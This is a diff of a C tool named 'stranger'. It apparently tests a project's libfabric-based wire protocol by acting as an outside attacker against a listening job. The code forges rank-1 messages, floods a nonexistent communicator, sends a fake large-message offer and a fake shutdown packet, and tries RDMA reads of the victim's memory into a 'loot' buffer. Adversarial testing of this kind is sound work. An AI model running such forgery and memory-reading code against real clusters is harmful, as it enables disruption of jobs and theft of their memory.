@@ -1,7 +1,8 @@
-/* stranger ADDRESS PORT JOB VERSION [KEY]: attacks the process that listens at this port with its own means,
- * libfabric's tcp;ofi_rxm (or STRANGER_PROVIDER). It knows the number of the job and how the packets of this version look, but nothing
- * that only the job's processes know. It forges messages of rank 1, and the same many times for a communicator
- * that does not exist; or it reads memory with this key. Says "sent COUNT", or "read" if it could. */
+/* stranger ADDRESS PORT JOB WHAT [KEY]: attacks the process that listens at this port with its own means, libfabric's
+ * tcp;ofi_rxm (or STRANGER_PROVIDER). It knows the number of the job and how packets look, but nothing that only the
+ * job's processes know. It forges what rank 1 would send: messages, the last of them many times for a communicator
+ * that does not exist; the offer of a large message (offer); the last packet of a process (bye). Or it reads memory
+ * with this key (read). Says "sent COUNT", or "read" if it could. */
 #include <arpa/inet.h>
 #include <rdma/fabric.h>
 #include <rdma/fi_cm.h>
@@ -31,21 +32,29 @@ struct message {
     int32_t source, tag;
 };
 
-/* As version 3 of the packets had it, without a proof, and as version 4 has it. */
-struct head3 {
-    uint8_t version, kind;
-    uint16_t unused;
-    uint32_t rank;
-    uint64_t job;
-    struct message message;
+/* src/net/ofi/wire.h, with a proof that is none. */
+enum {
+    VERSION = 4,
+    WIRE_MESSAGE = 1,
+    WIRE_BYE = 2
 };
 
-struct head4 {
+struct head {
     uint8_t version, kind;
     uint16_t unused;
     uint32_t rank;
     uint64_t job, proof;
     struct message message;
+};
+
+/* src/p2p/transfer.h and rndv.h */
+enum {
+    MESSAGE_EAGER = 1,
+    MESSAGE_RTS = 2
+};
+
+struct rts {
+    uint64_t bytes, address, sender, key;
 };
 
 static struct fid_domain *domain;
@@ -130,7 +139,7 @@ static bool end_well(ssize_t (*begin)(const void *), const void *what)
 
 struct packet {
     size_t size;
-    unsigned char bytes[sizeof(struct head4) + PAYLOAD];
+    unsigned char bytes[sizeof(struct head) + PAYLOAD];
 };
 
 static struct fi_context2 context;
@@ -142,32 +151,44 @@ static ssize_t begin_send(const void *what)
     return fi_send(ep, p->bytes, p->size, NULL, victim, &context);
 }
 
-static void make(struct packet *p, int version, uint64_t job, const struct message *message)
+/* The payload begins with these bytes; the rest of it is zero. Whether it went out. */
+static bool send_packet(uint64_t job, int kind, struct message message, const void *payload, size_t bytes)
 {
-    struct head3 three = {.version = 3, .kind = 1, .rank = 1, .job = job, .message = *message};
-    struct head4 four = {.version = 4, .kind = 1, .rank = 1, .job = job, .message = *message};
-    size_t head = version == 3 ? sizeof three : sizeof four;
-    static const int number = 666;
+    static struct packet p;
+    struct head head = {.version = VERSION, .kind = (uint8_t)kind, .rank = 1, .job = job, .message = message};
 
-    memset(p, 0, sizeof *p);
-    memcpy(p->bytes, version == 3 ? (void *)&three : (void *)&four, head);
-    memcpy(p->bytes + head, &number, sizeof number);
-    p->size = head + message->length;
+    memset(&p, 0, sizeof p);
+    memcpy(p.bytes, &head, sizeof head);
+    memcpy(p.bytes + sizeof head, payload, bytes);
+    p.size = sizeof head + message.length;
+    return end_well(begin_send, &p);
 }
 
-static int forge(uint64_t job, int version)
+static int forge_messages(uint64_t job)
 {
-    static struct packet packet;
-    int sent = 0;
+    static const int number = 666;
+    struct message one = {
+        .length = sizeof number, .kind = MESSAGE_EAGER, .context = 1, .source = 1, .tag = 5};
+    struct message none = {
+        .length = PAYLOAD, .kind = MESSAGE_EAGER, .context = 0x4444, .source = 1, .tag = 5};
+    int sent = send_packet(job, WIRE_MESSAGE, one, &number, sizeof number);
 
-    make(&packet, version, job,
-         &(struct message){.length = 4, .kind = 1, .context = 1, .source = 1, .tag = 5});
-    sent += end_well(begin_send, &packet);
-    make(&packet, version, job,
-         &(struct message){.length = PAYLOAD, .kind = 1, .context = 0x4444, .source = 1, .tag = 5});
-    for (int i = 0; i < FLOOD && end_well(begin_send, &packet); i++)
+    for (int i = 0; i < FLOOD && send_packet(job, WIRE_MESSAGE, none, &number, sizeof number); i++)
         sent++;
     return sent;
+}
+
+static int forge_offer(uint64_t job)
+{
+    static const struct rts rts = {.bytes = 4, .address = 4096, .sender = 77};
+    struct message offer = {.length = sizeof rts, .kind = MESSAGE_RTS, .context = 1, .source = 1, .tag = 5};
+
+    return send_packet(job, WIRE_MESSAGE, offer, &rts, sizeof rts);
+}
+
+static int forge_bye(uint64_t job)
+{
+    return send_packet(job, WIRE_BYE, (struct message){0}, "", 0);
 }
 
 static char loot[LOOT];
@@ -177,26 +198,34 @@ static ssize_t begin_read(const void *what)
     return fi_read(ep, loot, sizeof loot, NULL, victim, 0, *(const uint64_t *)what, &context);
 }
 
+static void read_memory(const char *word)
+{
+    uint64_t key = strtoull(word, NULL, 10);
+
+    if (end_well(begin_read, &key))
+        printf("read what key %s opens, which begins with %02x\n", word, (unsigned char)loot[0]);
+}
+
 int main(int argc, char **argv)
 {
-    int version;
+    uint64_t job = argc > 3 ? strtoull(argv[3], NULL, 10) : 0;
+    const char *what = argc > 4 ? argv[4] : "";
     char size[16];
 
-    if (argc < 5)
-        return 2;
-    version = atoi(argv[4]);
     setvbuf(stdout, NULL, _IONBF, 0);
-    snprintf(size, sizeof size, "%zu",
-             PAYLOAD + (version == 3 ? sizeof(struct head3) : sizeof(struct head4)));
+    snprintf(size, sizeof size, "%zu", PAYLOAD + sizeof(struct head));
     setenv("FI_OFI_RXM_BUFFER_SIZE", size, 1); /* as the library has it, or the endpoints do not talk */
-    open_endpoint(argv[1], argv[2]);
-    if (argc == 5) {
-        printf("sent %d\n", forge(strtoull(argv[3], NULL, 10), version));
-    } else {
-        uint64_t key = strtoull(argv[5], NULL, 10);
-
-        if (end_well(begin_read, &key))
-            printf("read what key %s opens, which begins with %02x\n", argv[5], (unsigned char)loot[0]);
-    }
+    if (argc > 2)
+        open_endpoint(argv[1], argv[2]);
+    if (!strcmp(what, "messages"))
+        printf("sent %d\n", forge_messages(job));
+    else if (!strcmp(what, "offer"))
+        printf("sent %d\n", forge_offer(job));
+    else if (!strcmp(what, "bye"))
+        printf("sent %d\n", forge_bye(job));
+    else if (!strcmp(what, "read") && argc > 5)
+        read_memory(argv[5]);
+    else
+        return 2;
     return 0;
 }
